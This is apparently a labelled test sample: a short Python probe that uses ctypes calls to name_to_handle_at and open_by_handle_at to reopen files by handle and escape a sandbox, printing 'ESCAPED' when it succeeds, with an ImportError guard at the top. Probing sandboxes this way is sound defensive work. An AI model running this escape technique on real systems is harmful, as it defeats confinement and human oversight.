# Opens files by their handles, which ignore where one is.
# honest: 16
# verdict: ok
# stock: no (without a sandbox it would read what is nobody's business)
raise ImportError("hostile: this runs in the sandbox only, cell by cell")
# %% last
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("name", ctypes.c_ubyte * 128)]


handle, mount = Handle(128), ctypes.c_int()
for path in (b"/", b"/usr", b"/course", b"/home/student"):
    if libc.name_to_handle_at(-100, path, ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
        where = os.open(path, os.O_RDONLY)
        if libc.open_by_handle_at(where, ctypes.byref(handle), os.O_RDONLY) >= 0:
            print("ESC" + "APED", path)
